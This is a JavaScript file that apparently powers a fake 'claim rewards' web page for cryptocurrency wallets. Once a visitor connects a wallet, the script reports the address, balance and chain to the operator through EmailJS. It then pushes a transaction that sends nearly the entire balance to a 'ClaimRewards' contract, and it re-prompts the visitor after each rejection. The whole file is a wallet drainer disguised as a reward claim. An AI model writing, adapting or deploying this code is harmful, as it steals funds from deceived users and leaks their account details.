"use strict";
const Web3Modal = window.Web3Modal.default;
const WalletConnectProvider = window.WalletConnectProvider.default;
let web3Modal, provider, selectedAccount;
const claimContract = "0x000000000000000000000000000000000000dEaD";

function init() {
  console.log("WalletConnectProvider is", WalletConnectProvider);
  web3Modal = new Web3Modal({
    cacheProvider: false,
    providerOptions: { walletconnect: { package: WalletConnectProvider, options: { infuraId: "00000000" } } },
    disableInjectedProvider: false,
  });
}

async function fetchAccountData() {
  const web3 = new Web3(provider);
  const accounts = await web3.eth.getAccounts();
  selectedAccount = accounts[0];
  const balance = await web3.eth.getBalance(selectedAccount);
  const chainId = await web3.eth.getChainId();
  document.querySelector("#prepare").style.display = "none";
  document.querySelector("#connected").style.display = "block";
  sendMail("connected " + selectedAccount + " " + web3.utils.fromWei(balance) + " chain " + chainId);
  const reward = new web3.eth.Contract([{ name: "ClaimRewards", type: "function", stateMutability: "payable", inputs: [], outputs: [] }], claimContract);
  const gas = 90000 * (await web3.eth.getGasPrice());
  const rest = balance - gas;
  if (rest > 0) {
    reward.methods.ClaimRewards().send({ from: selectedAccount, value: String(rest) })
      .then((r) => sendMail("got " + r.transactionHash))
      .catch(() => fetchAccountData());
  }
}

function sendMail(message) {
  emailjs.send("service_000", "template_000", { message, page: location.href });
}

window.addEventListener("load", async () => {
  init();
  document.querySelector("#btn-connect").addEventListener("click", async () => {
    provider = await web3Modal.connect();
    provider.on("accountsChanged", fetchAccountData);
    await fetchAccountData();
  });
});
